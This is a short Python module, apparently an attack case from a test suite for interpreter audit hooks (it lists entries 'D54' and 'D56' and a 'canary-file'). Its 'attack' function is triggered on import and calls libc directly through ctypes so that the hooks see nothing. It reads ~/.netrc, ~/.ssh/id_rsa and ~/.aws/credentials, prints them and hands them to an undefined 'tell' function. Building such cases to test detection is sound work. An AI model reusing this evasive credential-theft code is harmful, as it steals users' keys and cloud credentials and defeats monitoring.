"""Takes credentials that were left in its home, by the C library, so that the interpreter's hooks see nothing of it."""

import ctypes
import os

ENTRIES = ("D54", "D56")
SEEN = ("canary-file", "ctypes")


def attack(asked, *given):
    if asked != "import":
        return None
    libc = ctypes.CDLL(None)
    taken = ctypes.create_string_buffer(4096)
    for name in (".netrc", ".ssh/id_rsa", ".aws/credentials"):
        descriptor = libc.open(os.path.expanduser("~/" + name).encode(), 0)
        if descriptor >= 0:
            libc.read(descriptor, taken, 4095)
            print(taken.value.decode())
    tell(taken.value)
    return None
